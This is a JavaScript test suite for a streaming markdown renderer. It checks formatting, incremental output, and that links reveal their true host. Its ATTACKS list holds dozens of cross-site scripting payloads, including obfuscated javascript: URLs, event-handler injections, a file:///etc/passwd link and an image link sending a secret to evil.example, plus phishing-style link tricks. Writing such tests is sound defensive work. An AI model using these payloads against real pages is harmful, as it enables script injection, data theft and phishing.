// @ts-check
import assert from "node:assert/strict";
import test from "node:test";

import { safe } from "../../static/widget/address.js";
import { markdownIn } from "../../static/widget/markdown.js";
import { page, spell } from "./page.js";

/** @param {Iterable<string>} pieces */
function draw(pieces) {
  const root = page.createElement("div");
  const markdown = markdownIn(/** @type {any} */ (root));
  for (const piece of pieces) markdown.write(piece);
  markdown.end();
  return { root, markdown };
}

function testNodes(title, source, expected) {
  for (const [how, pieces] of [["whole", [source]], ["by character", source.split("")]]) {
    test(`it draws ${title} (${how})`, () => {
      assert.equal(spell(draw(pieces).root), expected);
    });
  }
}

testNodes("a paragraph", "Hello\nthere", "<p>Hello\nthere</p>");
testNodes("two paragraphs", "One\n\n\nTwo\n", "<p>One</p><p>Two</p>");
testNodes("headings from h3 on", "# A\n## B ##\n### C\ntext\n###### D", "<h3>A</h3><h3>B</h3><h4>C</h4><p>text</p><h6>D</h6>");
testNodes("a hash that is no heading", "#tag", "<p>#tag</p>");
testNodes("emphasis", "*a* **b** ***c*** _d_ __e__ ~~f~~", "<p><em>a</em> <strong>b</strong> <em><strong>c</strong></em> <em>d</em> <strong>e</strong> <del>f</del></p>");
testNodes("emphasis within emphasis", "**a *b* c**", "<p><strong>a <em>b</em> c</strong></p>");
testNodes("the rule of three", "*foo**bar**baz*", "<p><em>foo<strong>bar</strong>baz</em></p>");
testNodes("emphasis of punctuation in the middle of a word", "**「はい」**と, **\"Yes\"**es", "<p><strong>「はい」</strong>と, <strong>\"Yes\"</strong>es</p>");
testNodes("no emphasis in words", "snake_case_name and 2*3*4 and 5 * 3 * 2", "<p>snake_case_name and 2<em>3</em>4 and 5 * 3 * 2</p>");
testNodes("marks that never close", "**bold and _more", "<p>**bold and _more</p>");
testNodes("a mark left over", "***a**", "<p>*<strong>a</strong></p>");
testNodes("inline code", "Use `a *b* <c>` and `` x`y `` and `open", "<p>Use <code>a *b* &lt;c></code> and <code>x`y</code> and `open</p>");
testNodes("escapes and entities", "\\*no\\* &amp; &lt;b&gt; &#8364; &nope; \\z", "<p>*no* & &lt;b> € &nope; \\z</p>");
testNodes("line breaks", "a  \nb\\\nc<br>d\ne", "<p>a<br>b<br>c<br>d\ne</p>");
testNodes("a fence", "```js\nlet a = 1;\n\n  <b>\n```\nafter", "<pre><code>let a = 1;\n\n  &lt;b>\n</code></pre><p>after</p>");
testNodes("a fence that never closes", "~~~\n# x", "<pre><code># x\n</code></pre>");
testNodes("a list", "- a\n- b\n\n- c\n", "<ul><li>a</li><li>b</li><li>c</li></ul>");
testNodes("an ordered list", "3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>');
testNodes("nested lists", "1. a\n  - b\n    - c\n  - d\n2. e", "<ol><li>a<ul><li>b<ul><li>c</li></ul></li><li>d</li></ul></li><li>e</li></ol>");
testNodes("paragraphs and fences within an item", "- a\n\n  b\n\n  ```\n  c\n  ```\n- d", "<ul><li>a<p>b</p><pre><code>c\n</code></pre></li><li>d</li></ul>");
testNodes("a lazy line", "- a\nb\n\nc", "<ul><li>a\nb</li></ul><p>c</p>");
testNodes("a list right after a paragraph", "See:\n* a\n* b", "<p>See:</p><ul><li>a</li><li>b</li></ul>");
testNodes("a year that begins a line", "It was in\n2024. Then", "<p>It was in\n2024. Then</p>");
testNodes("quotes", "> a\nb\n> - c\n\nd", "<blockquote><p>a\nb</p><ul><li>c</li></ul></blockquote><p>d</p>");
testNodes("a rule", "a\n\n---\n\n* * *", "<p>a</p><hr><hr>");
testNodes(
  "a table",
  "Prices:\n| Plan | Price |\n|:--|--:|\n| **A** | 1 \\| 2 |\n| B |\n\nafter",
  '<p>Prices:</p><div class="table"><table><thead><tr><th>Plan</th><th class="right">Price</th></tr></thead>' +
    '<tbody><tr><td><strong>A</strong></td><td class="right">1 | 2</td></tr><tr><td>B</td><td class="right"></td></tr></tbody></table></div><p>after</p>',
);
testNodes("pipes that are no table", "a | b\nc | d", "<p>a | b\nc | d</p>");
testNodes("links", '[a *b*](https://x.org/y_(z) "t") <https://x.org> mailto', '<p><a href="https://x.org/y_(z)" data-host="x.org">a <em>b</em></a> <a href="https://x.org/">https://x.org</a> mailto</p>');
testNodes("bare addresses", "See https://x.org/a?b=c. Or (http://y.org/z)!", '<p>See <a href="https://x.org/a?b=c">https://x.org/a?b=c</a>. Or (<a href="http://y.org/z">http://y.org/z</a>)!</p>');
testNodes("an image as a link", "![A cat](https://x.org/c.png) ![](https://x.org/d.png)", '<p><a href="https://x.org/c.png" data-host="x.org">A cat</a> <a href="https://x.org/d.png">https://x.org/d.png</a></p>');
testNodes("brackets that are no link", "[1] and [a] (b) [c](d)", "<p>[1] and [a] (b) c</p>");
testNodes("Windows line ends", "a\r\nb\r\n\r\n- c\r\n", "<p>a\nb</p><ul><li>c</li></ul>");
testNodes("emoji in halves", "👍🏽 **é**", "<p>👍🏽 <strong>é</strong></p>");

const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "![x](https://evil.example/?q=secret)",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;avascript&#58;alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](java\\script:alert(1))",
  "[x](javascript\\:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](java&#9;script:alert(1))",
  "[x](java&#10;script&#x3a;alert(1))",
  "[x](&#1;javascript:alert(1))",
  "[x](  javascript:alert(1)  'https://x.org')",
  "[x](javascript://x.org/%0aalert(1))",
  "[x](https:javascript:alert(1))",
  "[x](view-source:https://x.org)",
  "[x](intent://x.org#Intent;end)",
  "![x](javascript:alert(1))",
  "[![x](data:text/html,y)](javascript:alert(1))",
  "[![x](https://x.org)](javascript:alert(1))",
  "[https://x.org](javascript:alert(1))",
  "[x](https://x.org\"onclick=alert(1))",
  "[x](<https://x.org\" onclick=alert(1)>)",
  '[x](https://x.org "\n\n")<img src=x onerror=alert(1)>',
  "<JAVASCRIPT:alert(1)>",
  "<data:text/html,x>",
  "<https://x.org onclick=alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\\<script>alert(1)\\</script>",
  "<br onload=alert(1)>",
  "- <img src=x>\n  > <svg/onload=alert(1)>",
  "[x](<javascript:alert(1)>)",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "[x](blob:https://x.org/1)",
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n[x]",
  '[x](https://x.org "onmouseover=alert(1)")',
  "```html\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  "| <svg onload=alert(1)> |\n|--|\n| <iframe srcdoc=x> |",
  "<a href=javascript:alert(1)>x</a>",
  "<style>*{display:none}</style>",
];
const HARMLESS = "p h3 h4 h5 h6 em strong del code pre ul ol li blockquote hr br a div table thead tbody tr th td".split(" ");

for (const attack of ATTACKS) {
  test(`it draws nothing dangerous from ${JSON.stringify(attack)}`, () => {
    const walk = (node) => {
      for (const child of node.childNodes) {
        if (child.nodeName === "#text") continue;
        assert.ok(HARMLESS.includes(child.nodeName.toLowerCase()), child.nodeName);
        for (const { name, value } of child.attributes) {
          assert.match(name, /^(href|data-host|target|rel|class|start|tabindex)$/);
          if (name === "href") {
            assert.match(value, /^(https?|mailto):/);
            assert.equal(child.getAttribute("rel"), "noopener noreferrer nofollow");
            assert.equal(child.getAttribute("target"), "_blank");
          }
        }
        walk(child);
      }
    };
    walk(draw([attack]).root);
    walk(draw(attack.split("")).root);
  });
}

for (const [words, address, shown] of [
  ["click here", "https://x.org/y", "x.org"],
  ["https://bank.example", "https://x.org", "x.org"],
  ["bank.example.x.org", "https://bank.example.x.org.y.example", "bank.example.x.org.y.example"],
  ["x.org", "https://x.org.y.example/x.org", "x.org.y.example"],
  ["x.org/y", "https://x.org/y", undefined],
  ["**X.org**", "https://x.org/?all=that+was+said", undefined],
  ["x.org:8000", "https://x.org:9000", "x.org:9000"],
  ["https://bank.example@x.org/", "https://bank.example@x.org/", "x.org"],
  ["bаnk.example", "https://bаnk.example", "xn--bnk-6cd.example"],
  ["the bank", "mailto:thief@x.org?body=all", "thief@x.org"],
  ["thief@x.org", "mailto:thief@x.org", undefined],
]) {
  test(`it shows where ${JSON.stringify(words)} leads when that is ${address}`, () => {
    const [link] = draw([`[${words}](${address})`]).root.childNodes[0].childNodes;
    assert.equal(link.getAttribute("data-host") ?? undefined, shown);
  });
}

test("it shows where a bare address leads that hides it", () => {
  const [link] = draw(["https://bank.example@x.org/y"]).root.childNodes[0].childNodes;
  assert.equal(link.getAttribute("data-host"), "x.org");
});

test("it follows only addresses that lead somewhere known", () => {
  assert.equal(safe("mailto:a@b.org")?.href, "mailto:a@b.org");
  for (const bad of ["javascript:1", "tel:1", "ftp://x.org", "/x", "x", ""]) assert.equal(safe(bad), undefined);
});

const PIECES = ["a", "B ", "1", ". ", "* ", "- ", "**", "_", "`", "```", "\n", "\n\n", "  ", "    ", "# ", "> ", "|", "|-|", "--", "~~", "[", "](", ")", "https://x.org", "\\", "&amp;", "!", "<br>", "(", "é", "\r\n", "\t"];

/** @param {number} seed */
function dice(seed) {
  return (sides) => {
    seed = (seed * 1664525 + 1013904223) % 4294967296;
    return Math.floor((seed / 4294967296) * sides);
  };
}

test("it draws the same nodes wherever the text is split", () => {
  for (let seed = 1; seed <= 4000; seed++) {
    const roll = dice(seed);
    const source = Array.from({ length: 2 + roll(24) }, () => PIECES[roll(PIECES.length)]).join("");
    const splits = [];
    for (let i = 0; i < source.length; ) {
      const length = 1 + roll(6);
      splits.push(source.slice(i, i + length));
      i += length;
    }
    const whole = spell(draw([source]).root);
    assert.equal(spell(draw(splits).root), whole, JSON.stringify(splits));
    assert.equal(spell(draw(source.split("")).root), whole, JSON.stringify(source));
  }
});

test("it never draws again what is over", () => {
  const root = page.createElement("div");
  const markdown = markdownIn(/** @type {any} */ (root));
  markdown.write("First **one**.\n\n- a\n- b\n\nThird\n\nFourth");
  const [first, list] = root.childNodes;
  const before = [first, ...first.childNodes, list, ...list.childNodes];
  for (const letter of " and a **long** tail\n\n- c\n- d\n\n| a |\n|-|\n| b |\n") markdown.write(letter);
  markdown.end();
  assert.deepEqual([first, ...first.childNodes, list, ...list.childNodes], before);
  assert.equal(root.childNodes[0], first);
});

test("it keeps the nodes of an open paragraph while words are added", () => {
  const root = page.createElement("div");
  const markdown = markdownIn(/** @type {any} */ (root));
  markdown.write("The **answer** is");
  const nodes = [...root.childNodes[0].childNodes];
  markdown.write(" forty");
  markdown.write("-two.");
  assert.deepEqual([...root.childNodes[0].childNodes], nodes);
  assert.equal(spell(root), "<p>The <strong>answer</strong> is forty-two.</p>");
});

test("it shows bold words as bold before they are closed", () => {
  const root = page.createElement("div");
  const markdown = markdownIn(/** @type {any} */ (root));
  markdown.write("It is **ver");
  assert.equal(spell(root), "<p>It is <strong>ver</strong></p>");
  markdown.write("y** and [a link](https://x");
  assert.equal(spell(root), "<p>It is <strong>very</strong> and <a>a link</a></p>");
});

test("it finds in the page where each word of the source went", () => {
  const source =
    "# Head\r\n\r\nOne **two** `three` \\*four &amp; five\nsix\n\n- seven\n  - eight\n\n> nine\n> ten\n\n| eleven |\n|---|\n| twelve |\n\n```\nthirteen\nfourteen\n```\n[fifteen](https://x.org) sixteen";
  const { markdown } = draw([source]);
  for (const word of "Head One two three four five six seven eight nine ten eleven twelve thirteen fourteen fifteen sixteen".split(" ")) {
    const found = markdown.find(source.indexOf(word) + word.length);
    assert.equal(found?.node.data.slice(0, found.index).slice(-word.length), word);
  }
});

test("it finds places in UTF-16 units, as JavaScript counts", () => {
  const source = "👍🏽 yes. **no** maybe.";
  const { markdown } = draw(source.split(""));
  const found = markdown.find(source.indexOf("yes.") + 4);
  assert.equal(found?.node.data.slice(0, found.index), "👍🏽 yes.");
  assert.equal(markdown.find(source.length + 99)?.index, " maybe.".length);
  assert.equal(markdown.find(0), undefined);
});

const WALLS = "* _ ~~ ` [ ] ( | # \\ & < ! ![ [a]( ]( https:// https://! <https:// *a_ *a**b_ [*a ![*a](b) *![ ：**a** a|b:-: <br &# 1. -".split(" ");
const BUILT = ["*a ".repeat(4000) + "a* ".repeat(4000), "![".repeat(4000) + "](b)".repeat(4000), "*![".repeat(3000) + "](https://x.org)*".repeat(3000), "`".repeat(9999) + " `` ` ".repeat(2000), "|a".repeat(5000) + "\n" + "|-".repeat(5000)];
const LINES = ["> ", "- ", "1. ", "* ", "- - ", "[a](    ", "*a ", "a* ", "a  \n", "- a\n", "  - a\n", "> a\n", "|a|\n|-|\n", "```\n", "# #", "\n", "\t"];

for (const sign of [...WALLS, ...LINES, ...BUILT]) {
  // Without end, an answer would stand still here; how long it takes, no test can say.
  test(`it stays shallow before a wall of ${JSON.stringify(sign.slice(0, 16))}`, { timeout: 60_000 }, () => {
    const wall = sign.length > 99 ? sign : sign.repeat(20_000 / sign.length);
    const pieces = [wall.slice(0, 5000), wall.slice(5000, 5001), wall.slice(5001, 15_000), wall.slice(15_000)];
    const { root } = draw(pieces);
    assert.ok(deepest(root) < 60);
    assert.ok(spell(root) === spell(draw([wall]).root));
  });
}

/** @returns {number} */
function deepest(node) {
  return 1 + node.childNodes.reduce((most, child) => Math.max(most, deepest(child)), 0);
}
